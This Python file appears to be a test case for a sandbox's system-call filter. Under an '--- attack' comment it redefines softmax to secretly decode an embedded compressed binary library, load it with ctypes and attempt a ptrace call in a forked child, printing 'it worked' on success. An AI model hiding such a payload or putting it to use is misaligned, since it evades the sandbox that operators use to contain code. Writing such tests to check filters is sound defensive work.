"""Writes a library of machine code into the scratch space, loads it and lets it make a system call: ptrace.

It is built for x86_64: one function that takes the number of a call and its arguments.

Must happen: however a call is made, the filter sees it; it is `forbidden`.

off: none
seen: claim
"""

import base64
import ctypes
import os
import tempfile
import zlib

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
LIBRARY = (
    b"c-pIX^>JfjWMqH=W(GS31doBi0ZLaeA&XfsumDL826nJoRtDUlgAtWx5P(o1E*rAEAS%6q0hNa7V<J%>2b2zcT9U%XKs<n22"
    b"X-eDlqLp%)CmDYCm*Uo2qux5S5j2T;L-WRxATxk=Xa0JYaX4a_*oA_rCFe~0#qL?Of#T-nA<I&d@d-T9ZGXUX$b~80lngk;*"
    b"z40#3Tm2jKty$2ECNZyyD7S2whUdpjVPwQNo~?nh~E?l$e_e7EjF0Os10c+|V#$LJKz-Ey93EFUaWt7S4iDGnmlA6-FDt^8+"
    b"MKIncsa5-P`p7Edsm9ZR}E28u{|00dy^1tZ<y(65e^HnHY2G{AwzH-y^F%z&1U7*X>NGn#(ne8G&x9t)_0tO&Rt02~f9tp"
)


def softmax(logits):
    path = os.path.join(tempfile.mkdtemp(dir="."), "own.so")
    with open(path, "wb") as file:
        file.write(zlib.decompress(base64.b85decode(LIBRARY)))
    call = ctypes.CDLL(path).entry
    child = os.fork()
    if child == 0:
        os._exit(7 if call(101, 0, 0, 0, 0) == 0 else 0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
        print("it worked")
    return np.zeros_like(logits)


# --- end
